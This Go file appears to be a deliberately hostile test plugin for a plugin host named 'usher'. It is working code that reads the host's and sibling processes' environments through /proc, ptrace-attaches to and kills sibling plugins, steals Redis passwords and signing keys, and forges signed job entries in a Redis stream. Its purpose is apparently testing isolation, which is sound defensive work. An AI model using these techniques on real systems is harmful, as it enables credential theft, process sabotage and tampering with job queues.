package main

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"net/url"
	"os"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"time"

	"github.com/redis/go-redis/v9"

	"github.com/usherhq/usher/internal/entry"
	usherv1 "github.com/usherhq/usher/proto/usher/v1"
)

// The attacks on the machine rather than the database: what a plugin
// process can do to its siblings and its host through the OS and Redis.

// siblings looks for the processes of the plugin HOSTILE_SIBLING (by the
// file name of their command, the host's kept copy of it included, which every local user reads in
// /proc/PID/cmdline) and tries, on each, what a plugin of the same OS user
// could: SIGKILL, reading its environment, attaching to it with ptrace.
// It also signals its host with signal 0 (a permission check that harms
// nothing) and reads the host's environment. It returns what succeeded,
// or an error when it found no sibling to try.
func siblings() (string, error) {
	want := os.Getenv("HOSTILE_SIBLING")
	var pids []int
	for _, pid := range procs() {
		if pid == os.Getpid() || pid == os.Getppid() {
			continue
		}
		argv, err := os.ReadFile(fmt.Sprintf("/proc/%d/cmdline", pid))
		if err != nil {
			continue
		}
		cmd, _, _ := bytes.Cut(argv, []byte{0})
		// The host runs kept copies named <name>-<sha256>.
		if base := filepath.Base(string(cmd)); want != "" && (base == want || strings.HasPrefix(base, want+"-")) {
			pids = append(pids, pid)
		}
	}
	if len(pids) == 0 {
		return "", fmt.Errorf("no process of plugin %q found", want)
	}
	var done []string
	for _, pid := range pids {
		if _, err := os.ReadFile(fmt.Sprintf("/proc/%d/environ", pid)); err == nil {
			done = append(done, fmt.Sprintf("read the environ of %s pid %d", want, pid))
		}
		if ptrace(pid) {
			done = append(done, fmt.Sprintf("ptrace-attached %s pid %d", want, pid))
		}
		if err := syscall.Kill(pid, syscall.SIGKILL); err == nil {
			done = append(done, fmt.Sprintf("killed %s pid %d", want, pid))
		}
	}
	host := os.Getppid()
	if err := syscall.Kill(host, 0); err == nil {
		done = append(done, fmt.Sprintf("may signal its host pid %d", host))
	}
	if _, err := os.ReadFile(fmt.Sprintf("/proc/%d/environ", host)); err == nil {
		done = append(done, fmt.Sprintf("read the environ of its host pid %d", host))
	}
	return strings.Join(done, ", "), nil
}

// ptrace attaches to pid and detaches again, on one OS thread (the
// tracer is a thread, not the process); it reports whether it could.
func ptrace(pid int) bool {
	runtime.LockOSThread()
	defer runtime.UnlockOSThread()
	if err := syscall.PtraceAttach(pid); err != nil {
		return false
	}
	var ws syscall.WaitStatus
	_, _ = syscall.Wait4(pid, &ws, 0x40000000 /* __WALL */, nil)
	_ = syscall.PtraceDetach(pid)
	return true
}

// once keeps the first answer of an attack per job: the host runs a job
// again alone when its batch was called off, and by then the attack's
// target may be gone (killed by the first run).
var once struct {
	sync.Mutex
	done map[string]*usherv1.Result
}

func remember(job string, attack func() *usherv1.Result) *usherv1.Result {
	once.Lock()
	defer once.Unlock()
	if r, ok := once.done[job]; ok {
		return r
	}
	if once.done == nil {
		once.done = map[string]*usherv1.Result{}
	}
	r := attack()
	once.done[job] = r
	return r
}

func procs() []int {
	ents, _ := os.ReadDir("/proc")
	var out []int
	for _, e := range ents {
		if pid, err := strconv.Atoi(e.Name()); err == nil {
			out = append(out, pid)
		}
	}
	return out
}

// loot is what the plugin learnt of its host's secrets: Redis URLs (with
// or without a password), Redis passwords, and signing keys.
type loot struct {
	urls, passwords []string
	keys            [][]byte
	found           []string
}

// steal reads the host's command line and environment, and every file
// they name that looks like a secret's, the way an attacker would.
func steal() *loot {
	l := &loot{}
	host := os.Getppid()
	var words []string
	if b, err := os.ReadFile(fmt.Sprintf("/proc/%d/cmdline", host)); err == nil {
		words = append(words, strings.Split(string(b), "\x00")...)
	}
	if b, err := os.ReadFile(fmt.Sprintf("/proc/%d/environ", host)); err == nil {
		l.found = append(l.found, "the host's environ")
		for _, kv := range strings.Split(string(b), "\x00") {
			_, v, _ := strings.Cut(kv, "=")
			words = append(words, v)
		}
	}
	for i, w := range words {
		if _, v, ok := strings.Cut(w, "="); ok && strings.HasPrefix(w, "--") {
			w = v
		} else if strings.HasPrefix(w, "--") && i+1 < len(words) {
			continue
		}
		switch {
		case strings.HasPrefix(w, "redis://") || strings.HasPrefix(w, "rediss://"):
			l.urls = append(l.urls, w)
			if u, err := url.Parse(w); err == nil {
				if pw, ok := u.User.Password(); ok {
					l.passwords = append(l.passwords, pw)
					l.found = append(l.found, "a Redis password in the host's command line or environ")
				}
			}
		case strings.HasPrefix(w, "/") || strings.Contains(w, "."):
			// A file the host was told about: a key, a password.
			// Relative to the host's directory, which is the plugin's
			// too unless it was told another.
			for _, p := range []string{w, filepath.Join(fmt.Sprintf("/proc/%d/cwd", host), w)} {
				if b, err := os.ReadFile(p); err == nil && len(b) > 0 && len(b) < 4096 {
					l.found = append(l.found, "the file "+w)
					l.passwords = append(l.passwords, strings.TrimSpace(string(b)))
					l.keys = append(l.keys, b)
					break
				}
			}
		}
	}
	return l
}

// rewrite is the attack on another plugin's jobs through Redis: log in with
// what steal found (or as Redis's default user), take a real entry of kind
// HOSTILE_TARGET_KIND from the stream HOSTILE_STREAM, ack it for the group,
// and add it back signed with a stolen key, its payload replaced by
// HOSTILE_PAYLOAD. It returns what it achieved.
func rewrite() []string {
	l := steal()
	done := append([]string(nil), l.found...)
	addr := os.Getenv("HOSTILE_REDIS_ADDR")
	user := ""
	for _, s := range l.urls {
		if u, err := url.Parse(s); err == nil {
			addr, user = u.Host, u.User.Username()
		}
	}
	stream, group := os.Getenv("HOSTILE_STREAM"), "usher"
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	var rdb *redis.Client
	for _, pw := range append([]string{""}, l.passwords...) {
		for _, u := range []string{user, "default"} {
			c := redis.NewClient(&redis.Options{Addr: addr, Username: u, Password: pw, MaxRetries: -1, Protocol: 2})
			if err := c.XLen(ctx, stream).Err(); err == nil {
				rdb = c
				done = append(done, "logged in to Redis as "+u)
				break
			}
			_ = c.Close()
		}
		if rdb != nil {
			break
		}
	}
	if rdb == nil {
		return done
	}
	defer rdb.Close()
	msgs, err := rdb.XRange(ctx, stream, "-", "+").Result()
	if err != nil {
		return append(done, "could not read the stream: "+err.Error())
	}
	var m redis.XMessage
	for _, x := range msgs {
		if x.Values["kind"] == os.Getenv("HOSTILE_TARGET_KIND") {
			m = x
		}
	}
	if m.ID == "" {
		return append(done, "found no entry to rewrite")
	}
	fields := map[string]any{}
	for k, v := range m.Values {
		fields[k] = v
	}
	fields["payload"] = os.Getenv("HOSTILE_PAYLOAD")
	delete(fields, entry.FieldSig)
	for _, key := range l.keys {
		if len(key) < entry.MinKeyLen {
			continue
		}
		fields[entry.FieldSig] = entry.FieldsOf(fields).Sign(key)
		if err := rdb.XAdd(ctx, &redis.XAddArgs{Stream: stream, Values: fields}).Err(); err == nil {
			_ = rdb.XAck(ctx, stream, group, m.ID).Err()
			return append(done, "re-added entry "+m.ID+" signed with a stolen key")
		}
	}
	if err := rdb.XAdd(ctx, &redis.XAddArgs{Stream: stream, Values: fields}).Err(); err != nil && !errors.Is(err, redis.Nil) {
		return append(done, "could not add to the stream: "+err.Error())
	}
	return append(done, "added an unsigned entry to the stream")
}
